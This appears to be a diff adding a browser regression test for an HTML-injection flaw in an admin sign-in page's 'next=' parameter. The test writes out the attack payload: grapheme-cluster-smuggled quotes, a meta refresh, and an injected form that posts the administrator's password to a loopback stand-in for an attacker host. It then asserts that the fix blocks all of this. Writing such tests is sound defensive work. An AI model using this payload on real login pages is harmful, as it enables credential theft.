@@ -1,0 +1,65 @@
+"""Issue 14, item 1, in a real browser: the security review's attack on the console sign-in
+page. A crafted `next=` link hid `"` inside a grapheme cluster (`"` + U+0301), which the old
+escaper wrote raw: Chromium then saw a second form that posted the administrator's password to
+another host. Here that host is a listener on loopback that records what reaches it."""
+import http.server
+import threading
+import urllib.parse
+
+import pytest
+from selenium.webdriver.common.by import By
+from selenium.webdriver.support import expected_conditions
+from selenium.webdriver.support.ui import WebDriverWait
+
+from conftest import free_port
+
+CLUSTERS = ["\"\u0301", ">\u0301", "\u0600<", "\u0d4e\""]
+
+
+@pytest.fixture(scope="module")
+def catcher():
+    """A stand-in for the attacker's host: counts every request that reaches it."""
+    hits = []
+
+    class Handler(http.server.BaseHTTPRequestHandler):
+        def _record(self):
+            length = int(self.headers.get("Content-Length") or 0)
+            hits.append((self.command, self.path, self.rfile.read(length)))
+            self.send_response(200)
+            self.end_headers()
+
+        do_GET = do_POST = _record
+
+        def log_message(self, *args):
+            pass
+
+    server = http.server.ThreadingHTTPServer(("127.0.0.1", free_port()), Handler)
+    threading.Thread(target=server.serve_forever, daemon=True).start()
+    yield f"http://127.0.0.1:{server.server_address[1]}", hits
+    server.shutdown()
+
+
+@pytest.mark.parametrize("cluster", CLUSTERS)
+def test_a_crafted_next_link_cannot_take_the_admin_password(browser, usher, catcher, cluster):
+    evil, hits = catcher
+    payload = (f"/admin/accounts{cluster}><meta http-equiv=refresh content=\"0;url={evil}/refresh\">"
+               f"</form><form id=evil action={evil}/steal method=post>"
+               f"<input id=email name=email><input id=password name=password type=password><button id=sign-in>Sign in</button></form>{cluster}")
+    browser.delete_all_cookies()
+    browser.get(f"{usher.base}/admin/signin?next=" + urllib.parse.quote(payload, safe=""))
+    WebDriverWait(browser, 10).until(expected_conditions.presence_of_element_located((By.ID, "password")))
+
+    forms = browser.find_elements(By.TAG_NAME, "form")
+    assert len(forms) == 1, [f.get_attribute("outerHTML")[:200] for f in forms]
+    assert forms[0].get_attribute("action") == f"{usher.base}/admin/signin"
+    assert browser.find_elements(By.CSS_SELECTOR, "meta[http-equiv]") == []
+
+    browser.find_element(By.ID, "email").send_keys("admin@example.com")
+    browser.find_element(By.ID, "password").send_keys("admin-password-123")
+    old = browser.find_element(By.TAG_NAME, "html")
+    browser.find_element(By.ID, "sign-in").click()
+    WebDriverWait(browser, 30).until(expected_conditions.staleness_of(old))
+    # The password went to Usher (signed in, back in the console), and nothing reached the other host.
+    assert browser.current_url.startswith(f"{usher.base}/admin/"), browser.current_url
+    assert "/admin/signin" not in browser.current_url
+    assert hits == []
